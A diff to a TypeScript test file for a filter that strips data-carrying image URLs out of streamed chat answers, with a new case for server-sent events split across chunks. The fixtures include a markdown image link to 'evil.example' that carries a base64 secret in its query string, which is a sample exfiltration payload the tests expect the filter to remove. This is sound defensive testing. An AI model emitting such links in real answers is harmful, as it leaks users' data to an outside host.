@@ -1,36 +1,12 @@
 /** Answers in every form and cut at every place: what carries data is taken out, all else passes byte for byte. */
 import { describe, expect, it } from "vitest";
-import { createAddressJudge, type AnswerMode } from "./address-judge";
-import type { AddressParts } from "./carries";
 import { createMessageRewriter, createRewriter } from "./rewriter";
 import { createSaid } from "./said";
+import { judgeFor } from "./testing/judge";
 
 const SECRET = "QXBwbGUgdmF1bHQgMTIzNDU2Nzg5MCBmb3IgQWRh"; // base64 of words
 const BAD = `https://evil.example/p.png?d=${SECRET}`;
 const GONE = "removed by Sluice: evil.example";
-
-function partsOf(address: string): AddressParts | null {
-  try {
-    const url = new URL(address, "https://chat.example/c/1");
-    if (!/^https?:$/u.test(url.protocol)) return null;
-    const { host, pathname, search, hash, username, password } = url;
-    return { host, path: pathname, query: search, fragment: hash, user: username + password };
-  } catch {
-    return null;
-  }
-}
-
-function judgeFor(said = createSaid(), mode: AnswerMode = "neutralise") {
-  const met: string[] = [];
-  const judge = createAddressJudge({
-    mode: () => mode,
-    parse: partsOf,
-    trusted: (host) => /^(?:chat|pictures)\.example$/u.test(host),
-    said,
-    met: (kind, host, removed) => met.push(`${kind} ${host} ${removed}`),
-  });
-  return { judge, met };
-}
 
 function run(type: string | null, pieces: readonly string[], said = createSaid()) {
   const { judge, met } = judgeFor(said);
@@ -164,6 +140,14 @@ describe("server-sent events", () => {
     const { out, met } = run(SSE, [first, status, ": ping\n\n", more]);
     expect(out).toContain(status);
     expect(out).toContain(": ping\n\n");
+    expect(out).not.toContain(SECRET);
+    expect(met).toEqual(["image evil.example true"]);
+  });
+
+  it("knows an event that only goes on by the last one that named its text, though that one held nothing", () => {
+    const named = (p: string, v: string) => `data: ${JSON.stringify({ p, o: "append", v })}\n\n`;
+    const texts = [named("/a", "Look"), patch(" ![x](https://evil"), named("/b", "aside")];
+    const { out, met } = run(SSE, [...texts, named("/a", `.example/?d=${SECRET}) end`)]);
     expect(out).not.toContain(SECRET);
     expect(met).toEqual(["image evil.example true"]);
   });
